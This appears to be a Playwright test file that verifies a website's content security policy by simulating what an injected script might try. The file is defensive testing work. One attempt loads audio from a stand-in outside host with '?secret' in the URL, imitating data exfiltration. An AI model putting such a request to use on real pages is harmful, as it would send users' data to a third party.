/** The policy limits what an injected script could do. */
import { attempts as common } from './policy-attempts.ts'
import { expect, test } from './test.ts'

// The wording is the browser's.
test.use({ expectedMessages: [/policy|trusted|^request to https:\/\/elsewhere\./i] })

const attempts: Readonly<Record<string, () => unknown>> = {
  ...common,
  'style-src-attr': () => document.body.setAttribute('style', 'display: none'),
  'media-src': () => {
    new Audio('https://elsewhere.example/?secret').load()
  },
  'frame-src': () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: '/' }))
  },
}

test.describe('content security policy', () => {
  test('forbids what an injected script could try', async ({ page }) => {
    await page.goto('/')
    const violations = await page.evaluateHandle(() => {
      const directives = new Set<string>()
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        directives.add(effectiveDirective),
      )
      return directives
    })
    for (const [directive, attempt] of Object.entries(attempts)) {
      await test.step(`enforces ${directive}`, async () => {
        await violations.evaluate((all) => all.clear())
        await page.evaluate(attempt)
        await expect.poll(() => violations.evaluate((all) => [...all])).toContain(directive)
        // Evaluated in the page, because the driver would wait for a navigation that the policy blocked.
        const left = await page.evaluate(() => [
          location.pathname,
          new URL(document.baseURI).pathname,
          document.title,
          document.querySelector('h1')?.checkVisibility(),
        ])
        expect(left).toEqual(['/', '/', expect.not.stringMatching(/taken/), true])
      })
    }
  })

  test('allows a video of the site', async ({ page }) => {
    await page.goto('/')
    const forbidden = await page.evaluate(async () => {
      const directives: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        directives.push(effectiveDirective),
      )
      // Not a film, but the policy is asked first.
      const film = Object.assign(document.createElement('video'), { src: '/favicon.ico' })
      await new Promise((resolve) => film.addEventListener('error', resolve))
      return directives
    })
    expect(forbidden).toEqual([])
  })

  test('runs nothing in an SVG that somebody opens', async ({ page }) => {
    await page.goto('/favicon.svg')
    expect(await page.evaluate(() => self.origin)).toBe('null')
    await page.goto('/site.webmanifest')
    expect(await page.evaluate(() => self.origin)).not.toBe('null')
  })

  test('forbids other sites to embed a page', async ({ page, baseURL }) => {
    await page.setContent(`<iframe src="${baseURL}/"></iframe>`)
    const frame = page.frames()[1]
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/)
  })
})
